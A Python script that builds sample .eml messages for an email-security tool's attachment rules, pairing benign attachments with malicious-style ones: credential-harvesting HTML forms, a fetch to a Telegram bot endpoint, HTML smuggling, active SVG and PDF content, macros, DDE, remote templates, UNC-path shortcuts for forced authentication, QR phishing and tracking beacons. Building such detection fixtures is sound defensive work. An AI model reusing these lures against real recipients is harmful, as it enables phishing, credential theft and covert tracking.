#!/usr/bin/env python3
"""(Re)generate the sample messages of the attachment-analysis rules.

The files they carry (DOCX, PDF, SVG, calendar invites, shortcuts...) are built by
``tests/attachments/files.py``; the messages by ``make_rule_samples.Mail``. Run

    PYTHONPATH=src .venv/bin/python scripts/make_attachment_samples.py

and commit the .eml files. Only the rules listed here are rewritten.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "scripts"))

from make_rule_samples import FORUM, RCPT, Mail, script_main  # noqa: E402
from tests.attachments import files as F  # noqa: E402

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TOKEN = RCPT.replace("@", "%40")
PAGE_OK = b"<html><body><h1>Programme</h1><p>Day one: opening session.</p></body></html>"
CRED_TEXT = "Your password will expire today. Please verify your account to keep access."


def mail(subject: str, text: str = "Please find the file attached.") -> Mail:
    return Mail(FORUM, subject).with_text(text)


SAMPLES_BY_RULE: dict[str, tuple[list[Callable[[], Mail]], list[Callable[[], Mail]]]] = {
    "ATTACHMENT_HTML_CREDENTIAL_FORM": (
        [lambda: mail("Voicemail").attach("voicemail.html", "text/html",
            b'<html><body><form action="https://collect.voicemail-portal.net/p" method="post"><input name="u"><input type="password" name="p"></form></body></html>'),
         lambda: mail("Document").attach("document.htm", "application/octet-stream",
            b'<html><body><input type="password" id="p"><script>fetch("https://api.telegram.org/bot123/sendMessage", {method: "POST"})</script></body></html>')],
        [lambda: mail("Programme").attach("programme.html", "text/html", PAGE_OK)],
    ),
    "ATTACHMENT_HTML_REDIRECT": (
        [lambda: mail("Invoice").attach("invoice.html", "text/html",
            b'<html><head><script>window.location.href = "https://invoice-viewer.example-docs.net/v";</script></head><body>Loading</body></html>'),
         lambda: mail("Invoice").attach("invoice.html", "text/html",
            b'<html><head><meta http-equiv="refresh" content="0;url=https://invoice-viewer.example-docs.net/v"></head><body>Loading</body></html>')],
        [lambda: mail("Programme").attach("programme.html", "text/html", PAGE_OK)],
    ),
    "ATTACHMENT_HTML_SMUGGLING": (
        [lambda: mail("Scan").attach("scan.html", "text/html",
            b'<html><body><script>var b = atob("PGgxPkhlbGxvPC9oMT4="); document.body.innerHTML = b;</script></body></html>')],
        [lambda: mail("Programme").attach("programme.html", "text/html", PAGE_OK)],
    ),
    "ATTACHMENT_SVG_ACTIVE": (
        [lambda: mail("Fax").attach("fax.svg", "image/svg+xml", F.svg('<script>alert(1)</script><text x="10" y="20">Fax</text>')),
         lambda: mail("Fax").attach("fax.svg", "image/svg+xml", F.svg('<foreignObject width="200" height="100"><div>Sign in</div></foreignObject>'))],
        [lambda: mail("Logo").attach("logo.svg", "image/svg+xml", F.svg('<circle cx="50" cy="50" r="40" fill="blue"/>'))],
    ),
    "ATTACHMENT_PDF_ACTIVE": (
        [lambda: mail("Statement").attach("statement.pdf", "application/pdf", F.pdf_javascript()),
         lambda: mail("Statement").attach("statement.pdf", "application/pdf", F.pdf_launch())],
        [lambda: mail("Statement").attach("statement.pdf", "application/pdf", F.pdf_link("https://policy-forum.org/statement"))],
    ),
    "ATTACHMENT_PDF_EMBEDDED_FILE": (
        [lambda: mail("Report").attach("report.pdf", "application/pdf",
            F.pdf("<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream", "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
                  root_extra="/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"))],
        [lambda: mail("Report").attach("report.pdf", "application/pdf", F.pdf_link("https://policy-forum.org/report"))],
    ),
    "ATTACHMENT_PDF_FORM_SUBMIT": (
        [lambda: mail("Account review").attach("review.pdf", "application/pdf", F.pdf_form())],
        [lambda: mail("Account review").attach("review.pdf", "application/pdf", F.pdf_link("https://policy-forum.org/review"))],
    ),
    "ATTACHMENT_OFFICE_MACRO_CONTENT": (
        [lambda: mail("Budget").attach("budget.docx", DOCX, F.docx(macro=True))],
        [lambda: mail("Budget").attach("budget.docx", DOCX, F.docx())],
    ),
    "ATTACHMENT_OFFICE_REMOTE_TEMPLATE": (
        [lambda: mail("Questions for the interview").attach("questions.docx", DOCX, F.docx(template="https://templates.office-cdn.net/q.dotm")),
         lambda: mail("Questions for the interview").attach("questions.rtf", "application/rtf", F.rtf_template("http://templates.office-cdn.net/q.dot"))],
        [lambda: mail("Questions for the interview").attach("questions.docx", DOCX, F.docx(hyperlink="https://policy-forum.org/"))],
    ),
    "ATTACHMENT_OFFICE_DDE": (
        [lambda: mail("Agenda").attach("agenda.docx", DOCX, F.docx(dde=True))],
        [lambda: mail("Agenda").attach("agenda.docx", DOCX, F.docx())],
    ),
    "ATTACHMENT_EMBEDDED_PAYLOAD": (
        [lambda: mail("Notes").attach("notes.one", "application/onenote", F.onenote(b"MZ\x90\x00 payload"))],
        [lambda: mail("Notes").attach("notes.one", "application/onenote", F.onenote())],
    ),
    "ATTACHMENT_NESTED_ARCHIVE": (
        [lambda: mail("Files").attach("files.zip", "application/zip", F.zip_of({"inner.zip": F.zip_of({"invoice.exe": b"MZ\x90\x00"})}))],
        [lambda: mail("Files").attach("files.zip", "application/zip", F.zip_of({"inner.zip": F.zip_of({"minutes.txt": b"Minutes."})}))],
    ),
    "ATTACHMENT_SHORTCUT_FORCED_AUTH": (
        [lambda: mail("Shared folder").attach("folder.url", "application/octet-stream",
            F.url_file("https://policy-forum.org/", icon="\\\\198.51.100.7\\share\\icon.ico")),
         lambda: mail("Shared folder").attach("folder.lnk", "application/octet-stream", F.lnk("\\\\198.51.100.7\\share\\run.exe"))],
        [lambda: mail("Shared folder").attach("agenda.txt", "text/plain", b"Agenda: opening session.\n")],
    ),
    "ATTACHMENT_QR_CREDENTIAL": (
        [lambda: mail("Action required: multi-factor authentication", CRED_TEXT + " Scan the code below.").attach(
            "code.png", "image/png", F.qr_png("https://mfa-renew.account-check.net/verify")),
         lambda: mail("Action required", CRED_TEXT).attach("notice.pdf", "application/pdf", F.pdf_with_qr("https://mfa-renew.account-check.net/verify"))],
        [lambda: mail("Event ticket", "Your ticket for the conference is attached.").attach(
            "ticket.png", "image/png", F.qr_png("https://policy-forum.org/tickets/2026"))],
    ),
    "ATTACHMENT_CALENDAR_ORGANIZER_ELSEWHERE": (
        [lambda: mail("Invitation: interview").attach("invite.ics", "text/calendar",
            F.calendar("URL:https://meet.interview-room.net/j/123", organizer="mailto:desk@world-news-desk.net"))],
        [lambda: mail("Invitation: interview").attach("invite.ics", "text/calendar",
            F.calendar("URL:https://policy-forum.org/meet/123", organizer="mailto:events@policy-forum.org"))],
    ),
    "BEACON_ATTACHMENT_LOAD": (
        [lambda: mail("Programme").attach("programme.html", "text/html",
            b'<html><body><h1>Programme</h1><img src="https://cdn.forum-assets.net/banner.png" width="600" height="200"></body></html>'),
         lambda: mail("Invitation").attach("invite.ics", "text/calendar",
            F.calendar("ATTACH;FMTTYPE=application/pdf:https://files.event-files.net/agenda.pdf", organizer="mailto:info@policy-forum.org"))],
        [lambda: mail("Programme").attach("programme.html", "text/html", PAGE_OK),
         lambda: mail("Programme").attach("programme.html", "text/html",
            b'<html><body><h1>Programme</h1><img src="https://www.policy-forum.org/logo.png" width="180" height="60"></body></html>')],
    ),
    "BEACON_DOCUMENT_OPEN_LOAD": (
        [lambda: mail("Draft").attach("draft.docx", DOCX, F.docx(image="https://assets.docs-cdn.net/logo.png")),
         lambda: mail("Draft").attach("draft.pdf", "application/pdf", F.pdf_open_uri("https://assets.docs-cdn.net/o"))],
        [lambda: mail("Draft").attach("draft.docx", DOCX, F.docx(hyperlink="https://policy-forum.org/"))],
    ),
    "BEACON_ATTACHMENT_RECIPIENT_TOKEN": (
        [lambda: mail("Questions").attach("questions.docx", DOCX, F.docx(template=f"https://templates.office-cdn.net/q.dotm?u={TOKEN}")),
         lambda: mail("Our article").attach("article.html", "text/html",
            f'<html><body><p>Article</p><img src="https://img.news-stats.net/a.gif?r={TOKEN}" width="300" height="100"></body></html>'.encode())],
        [lambda: mail("Questions").attach("questions.docx", DOCX, F.docx(template="https://templates.office-cdn.net/q.dotm"))],
    ),
}


def main() -> int:
    return script_main(SAMPLES_BY_RULE)


if __name__ == "__main__":
    raise SystemExit(main())
